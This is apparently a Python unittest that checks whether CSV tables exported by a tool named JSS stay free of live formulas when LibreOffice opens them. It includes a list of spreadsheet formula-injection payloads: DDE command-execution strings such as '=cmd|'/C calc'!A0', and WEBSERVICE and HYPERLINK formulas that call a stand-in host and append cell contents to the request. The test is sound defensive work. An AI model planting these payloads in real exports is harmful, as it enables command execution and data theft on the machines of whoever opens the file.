"""What a spreadsheet makes of the tables: LibreOffice opens them, and finds no formula and every number (6.5).
JSS names the program."""

import csv
import json
import os
import pathlib
import shutil
import subprocess
import tempfile
import unittest
import xml.etree.ElementTree as ElementTree

AS_OF = "2024-08-31"
OFFICE = shutil.which("soffice")
# Texts that a spreadsheet would compute, ask a program for, or send away.
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=cmd|'/C calc'!A0", '=HYPERLINK("http://pages.invalid/"&A1;"x")',
    '=WEBSERVICE("http://pages.invalid/")', "\t=1+1", "\r=1+1", "=1+1,\n=2+2", "'=1+1", '"=1+1', "= 1 + 1", "-2+3+cmd|x!A1",
    "=DDE(\"soffice\";\"x\";\"y\")",
]
NAMES = {
    "table": "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}",
    "office": "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}",
    "text": "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}",
}
CONTRACTS = "contract_id,freelancer_id,agency_id,client_id,title,status,started_on,ended_on,earnings".split(",")
FEEDBACK = "feedback_id,contract_id,author,kind,submitted_at,public_score,private_score,comment,response,responded_at".split(",")


def write(path, rows):
    with open(path, "w", encoding="utf-8", newline="") as file:
        csv.writer(file, lineterminator="\n").writerows(rows)


def write_market(folder):
    """Sound contracts whose texts are formulas, and for each formula records that it makes unsound, column by column."""
    contracts, feedback = [CONTRACTS], [FEEDBACK]
    for number, text in enumerate(FORMULAS):
        sound = [f"ct-{number}", "fl-wren", "", f"cl-{number}", text, "ended", "2024-07-01", "2024-08-20", "300.00"]
        contracts.append(sound)
        feedback.append([f"fb-{number}", f"ct-{number}", "client", "final", "2024-08-21", "2.00", "3", text, "", ""])
        for column in [0, 1, 2, 3, 5, 6, 8]:
            contracts.append([f"x{number}-{column}"] + sound[1:])
            contracts[-1][column] = text
        for column in [0, 1, 2, 3, 4, 5, 6, 9]:
            feedback.append([f"y{number}-{column}"] + feedback[1][1:])
            feedback[-1][column] = text
    write(folder / "contracts.csv", contracts)
    write(folder / "feedback.csv", feedback)


def read_sheet(path):
    """The cells of a flat spreadsheet's one table: of each its formula, the type of its value, and its text."""
    rows = []
    for row in ElementTree.parse(path).iter(NAMES["table"] + "table-row"):
        cells = []
        for cell in row.iter(NAMES["table"] + "table-cell"):
            found = (
                cell.get(NAMES["table"] + "formula"), cell.get(NAMES["office"] + "value-type"),
                "\n".join("".join(line.itertext()) for line in cell.iter(NAMES["text"] + "p")),
            )
            cells += [found] * min(int(cell.get(NAMES["table"] + "number-columns-repeated", 1)), 64)
        rows += [cells] * min(int(row.get(NAMES["table"] + "number-rows-repeated", 1)), 2)
    return rows


@unittest.skipUnless(OFFICE or os.environ.get("CI"), "there is no LibreOffice here (Debian's libreoffice-calc)")
class Spreadsheet(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        temporary = tempfile.TemporaryDirectory()
        cls.addClassCleanup(temporary.cleanup)
        cls.folder = pathlib.Path(temporary.name)
        market, out = cls.folder / "market", cls.folder / "out"
        cls.tables = cls.folder / "tables"
        market.mkdir()
        cls.tables.mkdir()
        write_market(market)
        cls.jss("run", market, "--out", out, "--pages", "0")
        cls.jss("run", market, "--out", cls.folder / "talent", "--pages", "0", "--audience", "talent")
        cls.jss("run", market, "--out", cls.folder / "strict", "--strict", code=65)
        cls.package = json.loads((out / "latest/datapackage.json").read_text(encoding="utf-8"))
        places = {"": out / "latest", "talent-": cls.folder / "talent/latest", "failed-": cls.folder / "strict/failed"}
        for prefix, place in places.items():
            for table in place.glob("*.csv"):
                shutil.copy(table, cls.tables / (prefix + table.name))
        for name in ["validate", "score", "actions"]:
            (cls.tables / f"answer-{name}.csv").write_bytes(cls.jss(name, market))
        write(cls.tables / "unguarded.csv", [["text", "number"]] + [[text, "-1.5"] for text in FORMULAS])
        cls.sheets = cls.convert(sorted(cls.tables.glob("*.csv")))

    @classmethod
    def jss(cls, command, market, *arguments, code=0):
        reading = [] if "--strict" in arguments else ["--max-rejects", "100%"]
        day = [] if command == "validate" else ["--as-of", AS_OF]
        done = subprocess.run(
            [os.environ["JSS"], command, market, *arguments, *reading, *day, "--quiet"], capture_output=True, check=False
        )
        assert done.returncode == code, done.stderr.decode()
        return done.stdout

    @classmethod
    def convert(cls, tables):
        """Each table as LibreOffice reads it, all in one start of it."""
        profile = (cls.folder / "profile").as_uri()
        subprocess.run(
            [OFFICE, "--headless", f"-env:UserInstallation={profile}", "--convert-to", "fods", "--outdir",
             str(cls.folder / "sheets"), *map(str, tables)],
            capture_output=True, check=True, timeout=300, env=os.environ | {"HOME": str(cls.folder)},
        )
        return {table.name: read_sheet(cls.folder / "sheets" / (table.stem + ".fods")) for table in tables}

    def plain(self, name):
        with open(self.tables / name, encoding="utf-8", newline="") as file:
            return list(csv.reader(file))

    def test_it_would_compute_what_is_not_guarded(self):
        formulas = [cell for row in self.sheets["unguarded.csv"] for cell in row if cell[0]]
        self.assertGreaterEqual(len(formulas), 6)

    def test_no_table_holds_a_formula(self):
        self.assertGreaterEqual(len(self.sheets), 16)
        for name, sheet in self.sheets.items():
            if name != "unguarded.csv":
                self.assertEqual([cell for row in sheet for cell in row if cell[0]], [], name)

    def test_hostile_text_did_get_there(self):
        for name in ["rejects.csv", "failed-rejects.csv", "answer-validate.csv"]:
            rows = self.plain(name)[1:]
            self.assertGreater(len(rows), 10 * len(FORMULAS))
            records = [record for *_, record in rows if record.lstrip("'\"")[:1] in "=+-@\t\r"]
            self.assertGreater(len(records), len(FORMULAS))
            self.assertEqual([record for record in records if record[:1] not in "'\""], [])

    def test_numbers_stay_numbers_and_text_stays_text(self):
        numbers = 0
        for resource in self.package["resources"]:
            rows, sheet = self.plain(resource["path"]), self.sheets[resource["path"]]
            self.assertEqual([cell[2] for cell in sheet[0]][: len(rows[0])], rows[0])
            if resource["path"] == "rejects.csv":
                continue  # lines within cells: rows of the sheet are the same, its text is checked above
            for row, cells in zip(rows[1:], sheet[1:]):
                for value, field, (_, kind, text) in zip(row, resource["schema"]["fields"], cells):
                    if not value:
                        continue
                    if field["type"] in ("integer", "number"):
                        self.assertEqual(kind, "float", (resource["path"], field["name"], value))
                        numbers += 1
                    elif field["type"] == "string":
                        self.assertEqual((kind, text), ("string", value))
        self.assertGreater(numbers, 200)


if __name__ == "__main__":
    unittest.main()
